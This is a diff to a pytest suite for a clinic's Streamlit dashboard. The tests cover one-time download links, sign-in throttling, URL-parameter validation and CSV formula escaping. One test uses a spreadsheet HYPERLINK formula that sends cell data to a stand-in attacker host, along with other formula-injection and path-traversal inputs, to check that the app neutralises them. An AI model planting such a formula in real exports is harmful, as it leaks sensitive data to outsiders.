@@ -12,11 +12,12 @@ import json
 import time
 
 import numpy as np
+import pandas as pd
 import pytest
 from sqlalchemy import delete, func, select
 from streamlit.testing.v1 import AppTest
 
-from dashboard import queries, ui
+from dashboard import downloads, queries, ui
 from dashboard_support import N1_BREATH, N1_GAIT, N1_SAFE, N1_SESSIONS, PASSWORD, PATIENT_NAMES, seed_dashboard_clinic
 from mindmove import auth
 from mindmove.auth import SIGN_IN_REFUSED, authenticate
@@ -55,6 +56,17 @@ def db(clinic, monkeypatch):
     yield store, ids
     with store.session() as s:
         s.execute(delete(LoginThrottle))
+
+
+BROWSER = "e" * 43  # the mindmove_device cookie dashboard/server.py would give this browser
+
+
+@pytest.fixture
+def browser(monkeypatch):
+    """AppTest has no cookies: the one seam where the browser is missing. The app is told this
+    browser's device cookie, as Streamlit's st.context.cookies would tell it behind server.py."""
+    monkeypatch.setattr(ui, "device_cookie", lambda: BROWSER)
+    return BROWSER
 
 
 def rendered_bytes(at: AppTest) -> bytes:
@@ -337,25 +349,27 @@ def test_programme_refused_for_a_therapist(db):
     assert audits(store, action="view_programme", username="thera")[-1].success is False
 
 
-def test_exports_offer_every_visible_table(db):
+def test_exports_offer_every_visible_table(db, browser):
     store, _ = db
     at = sign_in("thera", page="pages/exports.py")
-    assert not at.get("download_button")  # nothing is read before the user asks
+    assert not at.get("link_button") and not at.get("download_button")  # nothing is read before the user asks
     at.button(key="prepare_patients").click().run()
     at.button(key="prepare_tables").click().run()
-    labels = [b.proto.label for b in at.get("download_button")]
+    labels = [b.proto.label for b in at.get("link_button")]
     assert "Patient list (CSV, 2 rows)" in labels
     assert f"Sessions (CSV, {len(N1_SESSIONS)} rows)" in labels
     assert f"Check-ins (CSV, {len(N1_SESSIONS)} rows)" in labels
     assert f"Gait (CSV, {len(N1_GAIT)} rows)" in labels
     assert not any("Audit" in label for label in labels)  # admin only
+    assert all(b.proto.url.startswith(downloads.URL_PREFIX) for b in at.get("link_button"))
+    assert not at.get("download_button")  # never Streamlit's /media/ URLs
     at.button(key="prepare_report").click().run()
     assert not at.exception
-    assert "Download the PDF progress report" in [b.proto.label for b in at.get("download_button")]
-    assert audits(store, action="export_report", patient_code="N1")[-1].success
+    assert "Download the PDF progress report" in [b.proto.label for b in at.get("link_button")]
+    assert audits(store, action="prepare_report", patient_code="N1")[-1].success
     boss = sign_in("boss", page="pages/exports.py")
     boss.button(key="prepare_programme").click().run()
-    assert any(b.proto.label.startswith("Audit log") for b in boss.get("download_button"))
+    assert any(b.proto.label.startswith("Audit log") for b in boss.get("link_button"))
 
 
 # --- refusals -------------------------------------------------------------------------------
@@ -441,15 +455,23 @@ def test_own_patient_by_url_is_opened(db):
 
 # --- re-checked on every rerun, idle sign-out, per-client limit, calm failures ---------------
 
-def test_exports_read_only_when_asked_and_audit_each_download(db):
+def link(at: AppTest, key: str) -> str:
+    """The token of the download link ``key`` on the page."""
+    button = next(b for b in at.get("link_button") if b.proto.id.endswith(f"download_{key}"))
+    return button.proto.url.removeprefix(downloads.URL_PREFIX)
+
+
+def test_exports_read_only_when_asked_and_audit_each_download(db, browser):
     store, _ = db
     at = sign_in("thera", page="pages/exports.py")
     at.button(key="prepare_tables").click().run()
     views = len([a for a in audits(store, username="thera") if a.action.startswith("view_")])
-    at.download_button(key="checkins").click().run()
-    assert not at.exception
+    token = link(at, "checkins")
+    got = downloads.fetch_download(token, device_id=browser, client="test")
+    assert got.data.decode().splitlines()[0].startswith("session_id,started_at,pain_before")
     entry = audits(store, action="export_csv", username="thera")[-1]
-    assert (entry.patient_code, entry.detail) == ("N1", f"table=checkins rows={len(N1_SESSIONS)}")
+    assert entry.success and entry.patient_code == "N1"
+    assert entry.detail == f"downloaded N1_checkins.csv; table=checkins rows={len(N1_SESSIONS)}"
     at.run()  # a rerun, as any click makes: nothing is read (or audited as viewed) again
     assert len([a for a in audits(store, username="thera") if a.action.startswith("view_")]) == views
     before = len(audits(store, action="view_patient_list", username="thera"))
@@ -458,22 +480,78 @@ def test_exports_read_only_when_asked_and_audit_each_download(db):
     assert audits(store, action="view_gait", username="thera")[-1].patient_code == "N1"
 
 
-def test_browsers_without_an_address_share_one_sign_in_limit(db):
+def test_a_download_link_works_once_in_its_own_browser_until_sign_out(db, browser):
     store, _ = db
-    for i in range(auth.MAX_FAILURES + 2):  # different usernames: only the client key can lock
-        at = AppTest.from_file(APP, default_timeout=TIMEOUT_S).run()
-        at.text_input(key="sign_in_username").input(f"guess{i}")
-        at.text_input(key="sign_in_password").input("password123")
-        at.button[0].click().run()
+    at = sign_in("thera", page="pages/exports.py")
+    at.button(key="prepare_tables").click().run()
+    sessions, gait = link(at, "sessions"), link(at, "gait")
+    for device in ("", "c" * 43):  # no cookie, another browser's: refused, and the link still works after
+        with pytest.raises(downloads.DownloadRefused) as refused:
+            downloads.fetch_download(sessions, device_id=device, client="203.0.113.5")
+        assert refused.value.status == 403
+    entry = audits(store, action="export_csv", username="thera")[-1]
+    assert not entry.success and entry.client == "203.0.113.5"
+    assert entry.detail.startswith("download refused: not the browser that prepared it")
+    assert downloads.fetch_download(sessions, device_id=browser, client="test").file_name == "N1_sessions.csv"
+    with pytest.raises(downloads.DownloadRefused) as again:  # once only
+        downloads.fetch_download(sessions, device_id=browser, client="test")
+    assert again.value.status == 410
+    assert audits(store, action="export_csv", username="thera")[-1].detail == "download refused: link already used"
+    at.switch_page("app.py").run()
+    at.button(key="sign_out").click().run()
+    with pytest.raises(downloads.DownloadRefused) as signed_out:
+        downloads.fetch_download(gait, device_id=browser, client="test")
+    assert signed_out.value.status == 410 and "sign-out" in str(signed_out.value)
+
+
+def test_a_download_link_lasts_two_minutes_on_the_registers_clock():
+    clock = [1000.0]
+    grants = downloads.DownloadGrants(clock=lambda: clock[0])
+    who = auth.SignedInUser(id=1, username="thera", role="therapist", device=auth.hash_device("d" * 43))
+    token = grants.issue(who, b"a,b\n", file_name="x.csv", mime="text/csv", action="export_csv")
+    clock[0] += downloads.LINK_TTL_S - 1
+    assert grants.remaining_s(token) == pytest.approx(1.0)
+    clock[0] += 2
+    with pytest.raises(downloads.DownloadRefused, match="expired") as late:
+        grants.redeem(token, device_id="d" * 43)
+    assert late.value.status == 410 and grants.who(token) == "thera"
+
+
+def attempt(username: str, password: str) -> AppTest:
     at = AppTest.from_file(APP, default_timeout=TIMEOUT_S).run()
-    at.text_input(key="sign_in_username").input("thera")
-    at.text_input(key="sign_in_password").input(PASSWORD)
+    at.text_input(key="sign_in_username").input(username)
+    at.text_input(key="sign_in_password").input(password)
     at.button[0].click().run()
+    return at
+
+
+def test_five_wrong_passwords_for_one_user_do_not_stop_the_others(db):
+    """Every AppTest browser is the client ``local`` (no address) with no device cookie:
+    the case of the issue, where one user's mistakes paused sign-in for the whole clinic."""
+    store, _ = db
+    for _ in range(auth.MAX_FAILURES):
+        assert [e.value for e in attempt("thera", "not the password").error] == [SIGN_IN_REFUSED]
+    assert any("paused" in e.value for e in attempt("thera", PASSWORD).error)
+    for username in ("boss", "clin"):
+        at = attempt(username, PASSWORD)
+        assert at.session_state["signed_in_user"].username == username, [e.value for e in at.error]
+    lock = audits(store, action="sign_in_lock", username="thera")[-1]
+    assert lock.client == ui.LOCAL_CLIENT and lock.detail.startswith("key=user:thera ")
+
+
+def test_browsers_without_an_address_share_one_ceiling(db):
+    store, _ = db
+    attempt("guess0", "password123")
+    assert audits(store, action="sign_in_failed", username="guess0")[-1].client == ui.LOCAL_CLIENT
+    for i in range(1, auth.MAX_CLIENT_FAILURES + 2):  # different usernames: only the address can lock
+        with pytest.raises(AccessDenied):
+            auth.authenticate(store, f"guess{i}", "password123", client=ui.LOCAL_CLIENT)
+    at = attempt("thera", PASSWORD)
     assert "signed_in_user" not in at.session_state
     assert any("paused" in e.value for e in at.error), [e.value for e in at.error]
     assert audits(store, action="sign_in_locked", username="thera")[-1].client == ui.LOCAL_CLIENT
     with store.session() as s:
-        assert s.get(LoginThrottle, f"client:{ui.LOCAL_CLIENT}").failures == auth.MAX_FAILURES
+        assert s.get(LoginThrottle, f"client:{ui.LOCAL_CLIENT}").failures == auth.MAX_CLIENT_FAILURES
 
 
 def _set_user(store, username: str, **values) -> None:
@@ -559,3 +637,58 @@ def test_the_browser_is_never_sent_error_details():
 
     cmd = streamlit_command(port=8611)
     assert cmd[cmd.index("--client.showErrorDetails") + 1] == "none"
+
+
+# --- issue 15: URL parameters checked before any query; CSV cells cannot be formulas ---------
+
+@pytest.mark.parametrize("requested", ["99999999999999999999", "-1", "0", "1e3", "２", "12" * 40])
+def test_a_session_id_out_of_range_or_type_is_refused_before_any_query(db, requested):
+    store, _ = db
+    at = sign_in("thera")
+    views = len(audits(store, username="thera"))
+    at.query_params["session"] = requested
+    at.switch_page("pages/session_detail.py").run()
+    assert not at.exception and not at.get("plotly_chart") and not at.selectbox
+    assert any("not one of your care team's" in w.value for w in at.warning)
+    new = audits(store, username="thera")[views:]
+    assert [(a.action, a.success) for a in new] == [("view_session", False)]  # the refusal, and nothing read
+    assert "refused: not a session id" in new[0].detail
+
+
+@pytest.mark.parametrize("requested", ["x" * 300, "N1\x00", "../N1", "N 1"])
+def test_a_patient_param_that_is_not_a_code_is_refused_before_any_query(db, requested):
+    store, _ = db
+    at = sign_in("thera")
+    views = len(audits(store, username="thera"))
+    at.query_params["patient"] = requested
+    at.switch_page("pages/mobility.py").run()
+    assert not at.exception and not at.get("plotly_chart") and not at.selectbox
+    assert any("not in your care team" in w.value for w in at.warning)
+    new = audits(store, username="thera")[views:]
+    assert [(a.action, a.success, a.detail) for a in new] == [("open_patient_url", False, "refused: not a patient code")]
+
+
+def test_a_formula_typed_at_sign_in_reaches_the_audit_csv_as_text(db, browser):
+    store, _ = db
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    for text in (formula, "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB"):
+        attempt(text, "whatever password")
+    boss = sign_in("boss", page="pages/exports.py")
+    boss.button(key="prepare_programme").click().run()
+    got = downloads.fetch_download(link(boss, "audit_log"), device_id=browser, client="test")
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(got.data.decode())))
+    usernames = {r["username"] for r in rows if r["action"] == "sign_in_failed"}
+    assert "'" + formula.lower() in usernames  # shown as text by any spreadsheet
+    assert {"'+1+2", "'-2+3", "'@sum(a1:a9)"} <= usernames
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(value.startswith(starts) for r in rows for value in r.values())
+
+
+def test_numbers_stay_numbers_in_a_csv():
+    from dashboard.report import render_csv
+
+    table = pd.DataFrame({"pain_change": [-2.0, 1.5], "note": ["-3.5", "=1+1"], "n": [-4, 2]})
+    assert render_csv(table).decode().splitlines() == ["pain_change,note,n", "-2.0,-3.5,-4", "1.5,'=1+1,2"]
